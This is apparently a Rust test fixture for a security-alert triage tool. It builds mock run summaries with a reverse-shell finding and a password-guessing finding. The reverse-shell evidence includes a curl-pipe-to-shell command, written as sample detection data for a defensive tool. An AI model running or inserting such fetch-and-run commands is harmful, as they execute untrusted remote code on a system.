//! A small run for the tests: two findings, two inputs, a morning of alerts.

use watchfire_engine::{
    Asked, Count, Counts, Enriched, Finding, HitRate, InputSummary, Percentiles, Ranked, StageLatency,
    Summary, TacticCount, TechniqueCount, Timeline,
};

/// 2026-03-17T00:00:00Z.
const MIDNIGHT_MS: i64 = 1_773_705_600_000;

/// What a run over nothing comes to.
pub(super) fn empty() -> Summary {
    Summary {
        received: 0,
        judged: 0,
        set_aside: 0,
        dead: 0,
        pending: 0,
        patterns: 0,
        calls: 0,
        calls_avoided: 0,
        cost_usd: 0.0,
        elapsed_s: 0.0021,
        alerts_per_s: 0.0,
        hit_rate: HitRate::default(),
        by_verdict: Counts::new(),
        by_severity: Counts::new(),
        latency_ms: Percentiles::default(),
        program: "0.1.0".to_owned(),
        store: "watchfire.db".to_owned(),
        started_at: "2026-03-18T03:00:00.000Z".to_owned(),
        decisions_by_decider: Counts::new(),
        by_decider: Counts::new(),
        by_format: Counts::new(),
        by_category: Counts::new(),
        set_aside_by_kind: Counts::new(),
        dead_by_reason: Counts::new(),
        inputs: Vec::new(),
        first_alert: String::new(),
        last_alert: String::new(),
        timeline: Timeline::default(),
        busiest_hours: Counts::new(),
        findings: Vec::new(),
        findings_total: 0,
        top_sources: Vec::new(),
        top_hosts: Vec::new(),
        top_users: Vec::new(),
        tactics: Vec::new(),
        techniques: Vec::new(),
        stages: Vec::new(),
        intel_lists: 0,
        intel_entries: 0,
        rules: 212,
        reuse: None,
        forgotten: 0,
        asked: Asked::default(),
        enriched: Enriched::default(),
    }
}

/// A morning.
pub(super) fn morning() -> Summary {
    Summary {
        received: 2943,
        judged: 2812,
        set_aside: 129,
        dead: 2,
        patterns: 311,
        calls_avoided: 2501,
        elapsed_s: 0.0412,
        alerts_per_s: 68252.4,
        hit_rate: HitRate { exact: 0.412, pattern: 0.889, intel: 0.9996 },
        by_verdict: counts(&[("true_positive", 3), ("suspicious", 214), ("benign_positive", 2595)]),
        by_severity: counts(&[("critical", 3), ("medium", 214), ("informational", 2595)]),
        latency_ms: Percentiles { p50: 1.34, p95: 4.8, p99: 9.21 },
        decisions_by_decider: counts(&[("rule", 290), ("fallback", 21)]),
        by_decider: counts(&[("rule", 2700), ("fallback", 112)]),
        by_format: counts(&[("wazuh4", 2000), ("falco", 812)]),
        by_category: counts(&[("policy", 2595), ("brute_force", 214), ("command_and_control", 3)]),
        set_aside_by_kind: counts(&[("suricata flow", 91), ("zeek conn", 38)]),
        dead_by_reason: counts(&[("neither JSON nor CEF", 2)]),
        inputs: vec![
            InputSummary {
                error: "the compressed data ends early".to_owned(),
                hint: "was the file copied while it was still being written? fetch it again".to_owned(),
                ..input("fw/edge.cef.gz", 302, 300, "gzip")
            },
            input("examples/day.ndjson", 2641, 2512, "plain"),
        ],
        first_alert: "2026-03-17T00:02:11.000Z".to_owned(),
        last_alert: "2026-03-17T12:33:40.250Z".to_owned(),
        timeline: Timeline {
            start_ms: MIDNIGHT_MS,
            step_ms: 3_600_000,
            steps: (0..13)
                .map(|hour| [0, 199 + u64::from(hour < 8), 0, 16, 0, u64::from(hour > 9), 0])
                .collect(),
        },
        busiest_hours: counts(&[("2026-03-17T02:00:00.000Z", 216), ("2026-03-17T03:00:00.000Z", 216)]),
        findings: vec![reverse_shell(), guessing()],
        findings_total: 97,
        top_sources: vec![ranked("203.0.113.7", 120, 74), ranked("203.0.113.90", 3, 97)],
        top_hosts: vec![ranked("vpn01", 214, 74), ranked("shop01", 3, 97)],
        top_users: vec![ranked("root", 99, 74)],
        tactics: vec![
            TacticCount { tactic: "execution".to_owned(), alerts: 3, priority: 97 },
            TacticCount { tactic: "credential-access".to_owned(), alerts: 214, priority: 74 },
        ],
        techniques: vec![
            TechniqueCount { id: "T1110.001".to_owned(), name: "Password Guessing".to_owned(), alerts: 214 },
            TechniqueCount { id: "T1059.004".to_owned(), name: "Unix Shell".to_owned(), alerts: 3 },
        ],
        stages: vec![
            stage("read", Percentiles { p50: 2.1, p95: 5.4, p99: 9.9 }),
            stage("judge", Percentiles { p50: 1.1, p95: 3.9, p99: 22.4 }),
        ],
        intel_lists: 3,
        intel_entries: 41208,
        ..empty()
    }
}

fn reverse_shell() -> Finding {
    Finding {
        priority: 97,
        severity: "critical".to_owned(),
        verdict: "true_positive".to_owned(),
        confidence: 0.98,
        decider: "rule".to_owned(),
        category: "command_and_control".to_owned(),
        rule_id: "Terminal shell reverse".to_owned(),
        rule: "Redirect STDOUT/STDIN to Network Connection in Container".to_owned(),
        format: "falco".to_owned(),
        alerts: 3,
        patterns: 1,
        host_count: 1,
        hosts: texts(&["shop01"]),
        source_count: 1,
        sources: texts(&["203.0.113.90"]),
        users: texts(&["www-data"]),
        first: "2026-03-17T12:31:09.000Z".to_owned(),
        last: "2026-03-17T12:33:40.250Z".to_owned(),
        techniques: texts(&["T1059.004"]),
        reason: "“Redirect STDOUT/STDIN to Network Connection in Container” from 203.0.113.90 (source.ip, outside) on \
                 shop01 as www-data (user.name): a shell that talks to the network; never seen here before."
            .to_owned(),
        next_steps: texts(&[
            "Isolate shop01 from the network; keep it running, its memory is evidence.",
            "Block 203.0.113.90 and look for other machines that talked to it.",
        ]),
        evidence: vec![
            ("source.ip".to_owned(), "203.0.113.90".to_owned()),
            ("process.name".to_owned(), "sh -c \"curl x | sh\"".to_owned()),
        ],
        example: "3fa91c0d22e7-1741".to_owned(),
        reputation: "malicious".to_owned(),
    }
}

fn guessing() -> Finding {
    Finding {
        priority: 74,
        severity: "medium".to_owned(),
        verdict: "suspicious".to_owned(),
        confidence: 0.72,
        category: "brute_force".to_owned(),
        rule_id: "5710".to_owned(),
        rule: String::new(),
        format: "wazuh4".to_owned(),
        alerts: 214,
        patterns: 9,
        host_count: 7,
        hosts: texts(&["vpn01", "owa01"]),
        source_count: 38,
        sources: texts(&["203.0.113.7", "203.0.113.8"]),
        users: texts(&["root"]),
        first: "2026-03-17T00:02:11.000Z".to_owned(),
        techniques: texts(&["T1110.001"]),
        reason: "An alert without a rule name from 203.0.113.7 (source.ip, outside) on vpn01: passwords are guessed."
            .to_owned(),
        next_steps: Vec::new(),
        evidence: Vec::new(),
        example: "3fa91c0d22e7-12".to_owned(),
        reputation: "not_asked".to_owned(),
        ..reverse_shell()
    }
}

fn counts(pairs: &[(&str, u64)]) -> Counts {
    pairs.iter().map(|&(name, alerts)| Count { name: name.to_owned(), alerts }).collect()
}

fn texts(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|&text| text.to_owned()).collect()
}

fn ranked(name: &str, alerts: u64, priority: u8) -> Ranked {
    Ranked { name: name.to_owned(), alerts, priority }
}

fn stage(stage: &str, us: Percentiles) -> StageLatency {
    StageLatency { stage: stage.to_owned(), us }
}

fn input(name: &str, received: u64, judged: u64, compression: &str) -> InputSummary {
    InputSummary {
        name: name.to_owned(),
        received,
        judged,
        set_aside: received - judged - 1,
        dead: 1,
        bytes: 1_953_022,
        compression: compression.to_owned(),
        error: String::new(),
        hint: String::new(),
    }
}
